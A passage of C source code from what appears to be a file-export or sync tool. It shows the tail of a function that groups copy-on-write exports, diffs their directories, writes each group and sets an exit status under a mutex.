		int seen = 0;

		if (!e->cow)
			continue;
		for (size_t k = 0; k < i; k++)
			if (srv->exp[k].cow && !strcmp(srv->exp[k].cow_name, e->cow_name))
				seen = 1;
		if (seen)
			continue;               /* written with its group */
		if (late(&x))
			break;
		reset(&x);
		for (size_t k = i; k < srv->n; k++)
			if (srv->exp[k].cow && !strcmp(srv->exp[k].cow_name, e->cow_name)) {
				root_mode(&x, &srv->exp[k]);
				diff_dir(&x, &srv->exp[k], "", 1, 0);
			}
		pair_renames(&x);
		if (late(&x) || write_group(&x, e->cow_name, srv->exp, srv->n) < 0 || x.failed)
			failed = 1;
		refused |= x.nrf > 0 || x.rf_unlisted > 0;
	}
	pthread_mutex_lock(&place_mu);
	late(&x);
	if (place_all(&x) < 0 && !x.late)
		failed = 1;
	int st = x.late ? GOFER_EXIT_EXPORT_LATE : failed ? GOFER_EXIT_EXPORT_FAILED :
		 refused ? GOFER_EXIT_REFUSED : 0;
	export_status = st;
	pthread_mutex_unlock(&place_mu);
	reset(&x);
	free(x.ch);
	free(x.rf);
	free(x.skipped);
	return st;
}
